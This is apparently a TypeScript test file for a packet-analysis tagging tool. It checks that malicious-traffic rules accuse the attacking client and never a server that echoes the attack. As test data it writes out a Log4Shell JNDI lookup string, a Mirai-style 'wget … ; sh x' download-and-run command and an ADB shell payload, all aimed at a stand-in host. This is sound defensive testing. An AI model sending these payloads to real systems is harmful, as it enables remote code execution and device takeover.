import { expect, test } from 'vitest'
import { matches } from '#gnql/match.ts'
import { ethernet } from '#packet/build/ethernet.ts'
import { ip } from '#packet/build/ip.ts'
import { pcap, type TimedFrame } from '#packet/build/pcap.ts'
import { tcp } from '#packet/build/transport.ts'
import { dissected } from '#packet/testing/dissected.ts'
import { client, connection, server, start } from '#packet/testing/exchange.ts'
import { loadTags } from '#tags/load.ts'
import { tcp as drawn } from '#tags/proof/sketch.ts'
import { ruleDocument } from './reading.ts'
import { analyzeRules } from './analyze-rules.ts'

/** Claims about docs/methods/direction.md with real packets, the dissector and all rules: who is accused by what. */

const accusing = new Set(
  loadTags()
    .filter(({ intention }) => intention === 'malicious' || intention === 'suspicious')
    .map(({ slug }) => slug),
)
const rules = analyzeRules(loadTags().filter(({ slug, count }) => accusing.has(slug) && !count))

/** "address slug" of everybody whom a rule accuses. */
async function accusedIn(captured: TimedFrame[]): Promise<string[]> {
  const { conversations } = await dissected(pcap(captured))
  return conversations.flatMap((conversation) => {
    const document = ruleDocument({ ...drawn(0), ...conversation })
    return rules
      .filter(({ predicate }) => matches(predicate, document))
      .map(({ slug }) => `${conversation.source.ip} ${slug}`)
  })
}

const lookup = '${jndi:ldap://198.51.100.9/a}'
const attack = `GET /?x=${lookup} HTTP/1.1\r\nHost: h\r\n\r\n`
const page = `<p>Cannot find ${lookup}, you asked:\n${attack}</p>`
const echo = `HTTP/1.1 404 Not Found\r\nContent-Length: ${page.length}\r\n\r\n${page}`

/** Segments of a server under way, and what its client acknowledges. */
const underWay = (port: number, payload: string): TimedFrame[] => {
  const said = tcp({ sourcePort: port, destinationPort: 41_000, sequence: 7, flags: 'PA', payload })
  const heard = tcp({ sourcePort: 41_000, destinationPort: port, sequence: 7, flags: 'A' })
  return [
    { at: start, frame: ethernet(ip({ source: server, destination: client }, said)) },
    { at: start + 1, frame: ethernet(ip({ source: client, destination: server }, heard)) },
  ]
}

test('whoever attacks is accused, whole or from the request on, and never the server that quotes it', async () => {
  for (const destinationPort of [80, 3000, 8090, 12_345]) {
    const whole = connection(attack, echo, { destinationPort, segment: 60 })
    for (let dropped = 0; dropped < whole.length; dropped++) {
      const accused = await accusedIn(whole.slice(dropped))
      expect([destinationPort, dropped, accused.filter((one) => !one.startsWith(client))]).toEqual([
        destinationPort,
        dropped,
        [],
      ])
      if (dropped <= 3) expect([dropped, accused]).toEqual([dropped, [`${client} log4shell`]])
    }
  }
})

test('a server caught in the middle is accused by nothing it shows', async () => {
  const worm = '/bin/busybox MIRAI\r\ncd /tmp; wget http://198.51.100.9/x; sh x\r\n'
  const shell =
    'CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\0host::OPEN\x01\0\0\0shell:cd /tmp; wget http://198.51.100.9/x\0'
  for (const port of [20, 23, 80, 2323, 3000, 5555, 6379, 8090, 12_345, 50_123])
    for (const payload of [page, attack, echo, worm, shell, `*2\r\n$4\r\n${attack}`])
      expect([port, payload.slice(0, 20), await accusedIn(underWay(port, payload))]).toEqual([
        port,
        payload.slice(0, 20),
        [],
      ])
})

test('segments that anybody may have sent in another’s name accuse nobody', async () => {
  for (const port of [80, 3000, 12_345])
    for (const flags of ['PA', 'A', 'FPA', 'FPU', ''])
      for (const payload of [attack, lookup, page]) {
        const blind = tcp({ sourcePort: 40_000, destinationPort: port, sequence: 7, flags, payload })
        const refusal = tcp({ sourcePort: port, destinationPort: 40_000, sequence: 0, flags: 'R' })
        const sent = { at: start, frame: ethernet(ip({ source: client, destination: server }, blind)) }
        const refused = {
          at: start + 1,
          frame: ethernet(ip({ source: server, destination: client }, refusal)),
        }
        for (const captured of [[sent], [sent, refused]]) {
          const accused = await accusedIn(captured)
          // A FIN or Xmas scan is what it is; what it carries reaches nobody (RFC 9293 §3.10.7).
          expect(accused.filter((one) => !/scan/.test(one))).toEqual([])
        }
      }
})
